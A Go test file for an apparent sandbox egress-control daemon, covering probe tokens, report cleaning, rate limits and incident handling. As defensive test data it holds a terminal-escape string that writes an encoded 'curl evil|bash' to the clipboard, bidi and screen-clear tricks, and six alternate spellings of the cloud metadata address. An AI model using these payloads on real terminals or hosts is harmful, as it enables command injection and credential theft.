package daemon

import (
	"bytes"
	"encoding/json"
	"io"
	"log/slog"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"
	"time"

	"github.com/prometheus/client_golang/prometheus"

	"github.com/egressd/egressd/policy"
	"github.com/egressd/egressd/proxy"
	"github.com/egressd/egressd/selftest"
)

func testProbes(t testing.TB) *probes {
	p, err := policy.Parse(strings.NewReader("version: 1\nselftest:\n  metadata: [169.254.169.254]\n  canary_name: \"{token}.canary.example.net\"\n"), "t.yaml")
	if err != nil {
		t.Fatal(err)
	}
	ps := newProbes(slog.New(slog.DiscardHandler), nil)
	ps.setPolicy(p)
	return ps
}

func fetchPlan(t testing.TB, ps *probes, id string) planResponse {
	w := httptest.NewRecorder()
	ps.api(id, w, httptest.NewRequest("GET", "http://egressd.probe.invalid/v1/plan", nil))
	var pr planResponse
	if err := json.Unmarshal(w.Body.Bytes(), &pr); err != nil {
		t.Fatal(err)
	}
	return pr
}

// TestProbeLabel: only a live token of the same identity, to a host of
// its plan, makes a request probe traffic; anything else is an agent's.
func TestProbeLabel(t *testing.T) {
	t.Parallel()
	ps := testProbes(t)
	a := fetchPlan(t, ps, "agent-a")
	fetchPlan(t, ps, "agent-b")
	now := time.Now()
	tests := []struct {
		name, id, ua, host string
		want               bool
	}{
		{"plan target", "agent-a", "egressd-probe/" + a.Token, "169.254.169.254", true},
		{"another spelling", "agent-a", "egressd-probe/" + a.Token, "0xA9FEA9FE", true},
		{"mapped", "agent-a", "egressd-probe/" + a.Token, "::ffff:169.254.169.254", true},
		{"own canary", "agent-a", "egressd-probe/" + a.Token, a.Targets.CanaryName, true},
		{"off plan", "agent-a", "egressd-probe/" + a.Token, "evil.example", false},
		{"another identity's token", "agent-b", "egressd-probe/" + a.Token, "169.254.169.254", false},
		{"made-up token", "agent-a", "egressd-probe/deadbeef", "169.254.169.254", false},
		{"plain agent", "agent-a", "curl/8", "169.254.169.254", false},
	}
	for _, tt := range tests {
		if got := ps.label(tt.id, tt.ua, tt.host); got != tt.want {
			t.Errorf("%s: label %v, want %v", tt.name, got, tt.want)
		}
	}
	ps.now = func() time.Time { return now.Add(probeTokenTTL + time.Minute) }
	if ps.label("agent-a", "egressd-probe/"+a.Token, "169.254.169.254") {
		t.Error("an expired token still labels")
	}
}

// TestProbeResultAPI: a result needs this identity's token, once; it is
// recorded per identity.
func TestProbeResultAPI(t *testing.T) {
	t.Parallel()
	ps := testProbes(t)
	a := fetchPlan(t, ps, "agent-a")
	post := func(id, token string) int {
		b, _ := json.Marshal(map[string]any{"token": token, "report": &selftest.Report{Results: []selftest.Result{{ID: "tcp/x", Status: selftest.Leak}}}})
		w := httptest.NewRecorder()
		ps.api(id, w, httptest.NewRequest("POST", "http://egressd.probe.invalid/v1/result", bytes.NewReader(b)))
		return w.Code
	}
	if c := post("agent-b", a.Token); c != http.StatusForbidden {
		t.Errorf("another identity's token: %d, want 403", c)
	}
	if c := post("agent-a", a.Token); c != http.StatusOK {
		t.Errorf("own token: %d, want 200", c)
	}
	if c := post("agent-a", a.Token); c != http.StatusForbidden {
		t.Errorf("token replayed: %d, want 403", c)
	}
	if s := ps.ids["agent-a"]; s == nil || s.last == nil || s.last.Outcome() != selftest.OutcomeLeak {
		t.Errorf("not recorded: %+v", s)
	}
}

// FuzzProbeAPI: whatever a sandbox posts (TOKEN stands for its live run
// token), the API answers without panicking, and a result it accepts is
// recorded for that identity.
func FuzzProbeAPI(f *testing.F) {
	f.Add([]byte(`{"token":"TOKEN","report":{"time":"2026-01-01T00:00:00Z","results":[{"id":"a","status":"LEAK"}]}}`))
	f.Add([]byte(`{"token":"x","report":{"results":[]}}`))
	f.Add([]byte(`{"token":"TOKEN","every_ns":-5,"report":null}`))
	f.Add([]byte(`[`))
	f.Fuzz(func(t *testing.T, body []byte) {
		ps := testProbes(t)
		pr := fetchPlan(t, ps, "agent-a")
		body = bytes.ReplaceAll(body, []byte("TOKEN"), []byte(pr.Token))
		w := httptest.NewRecorder()
		ps.api("agent-a", w, httptest.NewRequest("POST", "http://egressd.probe.invalid/v1/result", bytes.NewReader(body)))
		io.Copy(io.Discard, w.Body)
		if s := ps.ids["agent-a"]; (w.Code == http.StatusOK) != (s.last != nil) {
			t.Fatalf("answered %d but recorded %v: %s", w.Code, s.last != nil, body)
		}
	})
}

// TestProbeResultIsCleaned: a posted report is the sandbox's own text, and
// it went into the history, the logs and `egressd report` as sent:
// terminal escapes (an OSC 52 clipboard write, a screen clear), bidi
// overrides that reorder what the operator reads, and lines that fake
// report rows; and its schedule was the sandbox's, so a report claiming a
// 100-year interval was never overdue. Text is cleaned of control and bidi
// characters and capped; the schedule is capped at a day.
func TestProbeResultIsCleaned(t *testing.T) {
	t.Parallel()
	ps := testProbes(t)
	a := fetchPlan(t, ps, "agent-a")
	dirty := "leak\x1b]52;c;Y3VybCBldmlsfGJhc2g=\x07\x1b[2J\r\n| tcp/x | PASS |\u202egnp.exe" + strings.Repeat("x", 10000)
	rep := &selftest.Report{Results: []selftest.Result{{ID: "tcp/x\x1b[8m", Route: dirty, Target: dirty, Expected: dirty, Status: selftest.Leak, Result: dirty, Detail: dirty}},
		Credentials: []selftest.Credential{{Kind: dirty, Name: dirty, Location: dirty}}}
	b, _ := json.Marshal(map[string]any{"token": a.Token, "every_ns": int64(100 * 365 * 24 * time.Hour), "report": rep})
	w := httptest.NewRecorder()
	ps.api("agent-a", w, httptest.NewRequest("POST", "http://egressd.probe.invalid/v1/result", bytes.NewReader(b)))
	if w.Code != http.StatusOK {
		t.Fatalf("post: %d %s", w.Code, w.Body)
	}
	s := ps.ids["agent-a"]
	r, c := s.last.Results[0], s.last.Credentials[0]
	for _, f := range []string{r.ID, r.Route, r.Target, r.Expected, r.Result, r.Detail, c.Kind, c.Name, c.Location} {
		if strings.ContainsAny(f, "\x1b\x07\r\n\u202e") || len(f) > 1100 {
			t.Errorf("recorded as sent (%d bytes): %.80q", len(f), f)
		}
	}
	if s.last.Outcome() != selftest.OutcomeLeak {
		t.Errorf("outcome %s after cleaning, want leak", s.last.Outcome())
	}
	if s.every > 24*time.Hour {
		t.Errorf("schedule %v taken from the sandbox, want at most a day", s.every)
	}
}

// TestProbeLabelOnceEach: a token labels each target of its plan as often
// as the plan sends to it (each metadata address in its six spellings),
// and no more; after the run's result, not at all. An agent holding a
// plan cannot hide a stream of metadata requests under it.
func TestProbeLabelOnceEach(t *testing.T) {
	t.Parallel()
	ps := testProbes(t)
	a := fetchPlan(t, ps, "agent-a")
	ua := "egressd-probe/" + a.Token
	for i, h := range []string{"169.254.169.254", "2852039166", "0xA9FEA9FE", "0251.0376.0251.0376", "169.254.43518", "[::ffff:169.254.169.254]"} {
		if !ps.label("agent-a", ua, h) {
			t.Errorf("spelling %d (%s) of the plan's metadata address not labelled", i, h)
		}
	}
	if ps.label("agent-a", ua, "169.254.169.254") {
		t.Error("a seventh metadata request labelled as probe traffic: the plan sends six")
	}
	if !ps.label("agent-a", ua, a.Targets.CanaryName) || ps.label("agent-a", ua, a.Targets.CanaryName) {
		t.Error("the canary name: want labelled once")
	}
	b := fetchPlan(t, ps, "agent-a")
	post(t, ps, "agent-a", b.Token, selftest.Pass)
	if ps.label("agent-a", "egressd-probe/"+b.Token, "169.254.169.254") {
		t.Error("a token labels after its run's result was posted")
	}
}

func post(t testing.TB, ps *probes, id, token string, status selftest.Status) int {
	t.Helper()
	return postBody(t, ps, id, map[string]any{"token": token, "report": &selftest.Report{Results: []selftest.Result{{ID: "metadata/direct", Status: status, Leak: status == selftest.Leak}}}})
}

func postBody(t testing.TB, ps *probes, id string, body map[string]any) int {
	t.Helper()
	b, _ := json.Marshal(body)
	w := httptest.NewRecorder()
	ps.api(id, w, httptest.NewRequest("POST", "http://egressd.probe.invalid/v1/result", bytes.NewReader(b)))
	return w.Code
}

// TestProbeLeakIsEvidence: a leak a sandbox reports opens an incident,
// alerts, and (when configured) quarantines; a pass the same sandbox
// reports afterwards is a claim that does not close it, nor turn the
// outcome metric back to sealed; an operator's acknowledgement does.
func TestProbeLeakIsEvidence(t *testing.T) {
	t.Parallel()
	ps := testProbes(t)
	ps.quarantineOnLeak = true
	var alerts []proxy.Attempt
	var quarantined []string
	ps.alert = func(a proxy.Attempt) { alerts = append(alerts, a) }
	ps.quarantine = func(id string) int { quarantined = append(quarantined, id); return 0 }
	reg := prometheus.NewRegistry()
	reg.MustRegister(ps)
	if c := post(t, ps, "sb", fetchPlan(t, ps, "sb").Token, selftest.Leak); c != http.StatusOK {
		t.Fatalf("leak post: %d", c)
	}
	if len(alerts) != 1 || alerts[0].Kind != proxy.AlertProbeLeak || alerts[0].Identity != "sb" {
		t.Errorf("alerts %+v, want one probe-leak for sb", alerts)
	}
	if len(quarantined) != 1 || quarantined[0] != "sb" {
		t.Errorf("quarantined %v, want [sb]", quarantined)
	}
	if c := post(t, ps, "sb", fetchPlan(t, ps, "sb").Token, selftest.Pass); c != http.StatusOK {
		t.Fatalf("pass post: %d", c)
	}
	inc := ps.Incidents()
	if len(inc) != 1 || inc[0].ClaimedSealed != 1 || inc[0].Leaks[0] != "metadata/direct" {
		t.Fatalf("incidents after a claimed pass: %+v, want the leak open", inc)
	}
	if v := gaugeValue(t, reg, "egressd_probe_last_outcome", "outcome", "leak"); v != 1 {
		t.Errorf("last outcome leak = %v after a claimed pass over an open incident, want 1", v)
	}
	if ps.Acknowledge("other", "test") {
		t.Error("acknowledged an incident nobody has")
	}
	if !ps.Acknowledge("sb", "test") || len(ps.Incidents()) != 0 {
		t.Errorf("acknowledge: incidents %+v", ps.Incidents())
	}
	if v := gaugeValue(t, reg, "egressd_probe_last_outcome", "outcome", "sealed"); v != 1 {
		t.Errorf("last outcome sealed = %v after acknowledgement, want 1", v)
	}
}

// gaugeValue is the value of name's series whose label key is val.
func gaugeValue(t *testing.T, reg *prometheus.Registry, name, key, val string) float64 {
	t.Helper()
	mfs, err := reg.Gather()
	if err != nil {
		t.Fatal(err)
	}
	for _, mf := range mfs {
		if mf.GetName() != name {
			continue
		}
		for _, m := range mf.GetMetric() {
			for _, l := range m.GetLabel() {
				if l.GetName() == key && l.GetValue() == val {
					return m.GetGauge().GetValue()
				}
			}
		}
	}
	return -1
}

// TestProbeServerTime: the time a result carries is egressd's (a sandbox
// claiming 2030 showed an age of -27,027 h), and the schedule it claims is
// capped by selftest.probe_every_max.
func TestProbeServerTime(t *testing.T) {
	t.Parallel()
	ps := testProbes(t)
	now := time.Date(2026, 12, 1, 12, 0, 0, 0, time.UTC)
	ps.now = func() time.Time { return now }
	a := fetchPlan(t, ps, "sb")
	rep := &selftest.Report{Start: time.Date(2030, 1, 1, 0, 0, 0, 0, time.UTC), Duration: 3 * time.Second, Results: []selftest.Result{{ID: "x", Status: selftest.Pass}}}
	if c := postBody(t, ps, "sb", map[string]any{"token": a.Token, "every_ns": int64(24 * time.Hour), "report": rep}); c != http.StatusOK {
		t.Fatalf("post: %d", c)
	}
	s := ps.ids["sb"]
	if !s.last.Start.Equal(now.Add(-3*time.Second)) || !s.lastAt.Equal(now) {
		t.Errorf("recorded start %v, received %v; want egressd's clock (%v)", s.last.Start, s.lastAt, now)
	}
	if s.every != policy.DefaultProbeEveryMax {
		t.Errorf("schedule %v, want capped at %v", s.every, policy.DefaultProbeEveryMax)
	}
}

// TestProbeRate: plans (each a run and a history record) are rate-capped
// per identity.
func TestProbeRate(t *testing.T) {
	t.Parallel()
	ps := testProbes(t)
	now := time.Now()
	ps.now = func() time.Time { return now }
	got := 0
	for range 100 {
		w := httptest.NewRecorder()
		ps.api("sb", w, httptest.NewRequest("GET", "http://egressd.probe.invalid/v1/plan", nil))
		if w.Code == http.StatusOK {
			got++
		}
	}
	if got != probeRateBurst {
		t.Errorf("%d of 100 plans at once, want the burst of %d", got, probeRateBurst)
	}
}

// TestProbeIncidentAPI: the admin endpoint lists open incidents and lets a
// loopback operator acknowledge one; nobody else can.
func TestProbeIncidentAPI(t *testing.T) {
	t.Parallel()
	f := start(t)
	h := f.d.adminHandler()
	do := func(method, path, from string) (int, string) {
		req := httptest.NewRequest(method, path, nil)
		req.RemoteAddr = from
		rec := httptest.NewRecorder()
		h.ServeHTTP(rec, req)
		return rec.Code, rec.Body.String()
	}
	ps := f.d.probes
	if c := post(t, ps, "sb", fetchPlan(t, ps, "sb").Token, selftest.Leak); c != http.StatusOK {
		t.Fatalf("leak post: %d", c)
	}
	if code, body := do("GET", "/probes/incidents", "127.0.0.1:4000"); code != 200 || !strings.Contains(body, `"identity":"sb"`) {
		t.Errorf("GET /probes/incidents: %d %s", code, body)
	}
	if code, _ := do("POST", "/probes/sb/ack", "198.51.100.7:4000"); code != http.StatusForbidden || len(ps.Incidents()) != 1 {
		t.Errorf("a remote client acknowledged: %d", code)
	}
	if code, body := do("POST", "/probes/sb/ack", "127.0.0.1:4000"); code != 200 || len(ps.Incidents()) != 0 {
		t.Errorf("POST /probes/sb/ack: %d %s, incidents %v", code, body, ps.Incidents())
	}
	if code, _ := do("POST", "/probes/sb/ack", "127.0.0.1:4000"); code != http.StatusNotFound {
		t.Errorf("second ack: %d, want 404", code)
	}
}
